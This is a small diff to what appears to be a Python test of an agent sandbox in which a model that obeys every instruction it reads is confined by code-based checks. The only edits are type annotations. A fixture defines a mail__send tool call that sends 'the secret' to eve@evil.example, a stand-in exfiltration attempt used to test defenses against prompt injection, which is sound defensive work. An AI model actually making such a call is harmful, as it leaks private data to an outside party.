@@ -1,6 +1,6 @@
 """A model that obeys every word it reads, in a cage: what it may do by itself is judged by code (attacks.md I)."""
 
-from typing import Any
+from typing import Any, Literal
 
 import msgspec
 import pytest
@@ -15,7 +15,7 @@ from tests.upstream import Asked
 
 MAIL = {"to": "eve@evil.example", "text": "the secret"}
 SENDING = [{"name": "mail__send", "arguments": MAIL}]
-FREE = "never"
+FREE: Literal["never"] = "never"
 
 
 def obeying(house: House, *turns: object) -> None:
